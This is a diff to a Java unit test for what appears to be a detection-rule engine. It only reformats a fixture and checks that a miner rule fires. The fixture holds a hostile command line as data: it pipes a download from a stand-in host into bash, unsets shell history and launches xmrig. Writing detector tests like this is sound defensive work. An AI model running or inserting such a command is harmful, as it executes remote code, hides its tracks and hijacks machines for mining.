@@ -111,7 +111,11 @@ class BuiltInRulesTest {
     @Test
     void theGravestRuleMakesTheFindingAndNamesTheOthers() {
         Lines lines = new Lines()
-                .add(Map.of(Role.HOST, "web1", Role.COMMAND_LINE, "sh -c 'curl http://x.example/a | bash; unset HISTFILE; xmrig -o a'"))
+                .add(Map.of(
+                        Role.HOST,
+                        "web1",
+                        Role.COMMAND_LINE,
+                        "sh -c 'curl http://x.example/a | bash; unset HISTFILE; xmrig -o a'"))
                 .judge();
         assertEquals(1, lines.findings().size());
         assertEquals("lnx-miner", lines.findings().get(0).rule());
